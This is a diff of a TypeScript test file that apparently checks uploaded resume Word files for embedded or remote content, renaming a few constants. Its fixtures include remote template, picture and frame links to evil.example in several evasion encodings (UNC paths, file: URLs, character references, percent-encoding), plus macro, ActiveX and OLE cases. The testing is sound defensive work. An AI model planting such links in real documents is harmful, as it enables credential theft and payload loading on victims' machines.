@@ -181,9 +181,9 @@ describe("a resume's file", () => {
 
   const DOCUMENT = "word/_rels/document.xml.rels";
   const SETTINGS = "word/_rels/settings.xml.rels";
-  const STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships";
-  const MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships";
-  const elsewhere = (what: string): string => `The file would load ${what} from the network when opened.`;
+  const STRICT_NAMESPACE = "http://purl.oclc.org/ooxml/officeDocument/relationships";
+  const MICROSOFT_NAMESPACE = "http://schemas.microsoft.com/office/2006/relationships";
+  const networkReason = (what: string): string => `The file would load ${what} from the network when opened.`;
   it.each<[string, Record<string, Buffer>, string]>([
     [
       "an OLE object",
@@ -192,7 +192,7 @@ describe("a resume's file", () => {
     ],
     [
       "an OLE object in Strict Open XML",
-      { [DOCUMENT]: relationships({ type: `${STRICT}/oleObject`, target: "a.bin" }) },
+      { [DOCUMENT]: relationships({ type: `${STRICT_NAMESPACE}/oleObject`, target: "a.bin" }) },
       "The file contains an embedded object.",
     ],
     [
@@ -219,7 +219,7 @@ describe("a resume's file", () => {
       "the data of an ActiveX control",
       {
         "word/activeX/_rels/activeX1.xml.rels": relationships({
-          type: `${MICROSOFT}/activeXControlBinary`,
+          type: `${MICROSOFT_NAMESPACE}/activeXControlBinary`,
           target: "a.bin",
         }),
       },
@@ -227,7 +227,7 @@ describe("a resume's file", () => {
     ],
     [
       "macros in a part with another name",
-      { [DOCUMENT]: relationships({ type: `${MICROSOFT}/vbaProject`, target: "a.bin" }) },
+      { [DOCUMENT]: relationships({ type: `${MICROSOFT_NAMESPACE}/vbaProject`, target: "a.bin" }) },
       "The file contains macros.",
     ],
     [
@@ -238,32 +238,32 @@ describe("a resume's file", () => {
     [
       "a template on a web server",
       { [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template on a network share",
       { [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template on a network share, with a file: URL",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template with the file: URL of another host",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template whose URL has a leading space and a character reference",
       { [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template whose URL is percent-encoded",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a template in a UTF-16 part with a namespace prefix",
@@ -277,17 +277,17 @@ describe("a resume's file", () => {
           "utf16le",
         ),
       },
-      elsewhere("a template"),
+      networkReason("a template"),
     ],
     [
       "a picture on a web server",
       { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
-      elsewhere("a picture"),
+      networkReason("a picture"),
     ],
     [
       "a picture on a network share",
       { [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png") },
-      elsewhere("a picture"),
+      networkReason("a picture"),
     ],
     [
       "a linked OLE object",
@@ -297,12 +297,12 @@ describe("a resume's file", () => {
     [
       "a frame with a document on a network share",
       { "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx") },
-      elsewhere("content"),
+      networkReason("content"),
     ],
     [
       "a linked subdocument",
       { [DOCUMENT]: externalRelationship("subDocument", "a.docx") },
-      elsewhere("content"),
+      networkReason("content"),
     ],
     [
       "a VML drawing with a picture on a network share",
@@ -311,7 +311,7 @@ describe("a resume's file", () => {
           '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
         ),
       },
-      elsewhere("a picture"),
+      networkReason("a picture"),
     ],
     [
       "a DDE field",
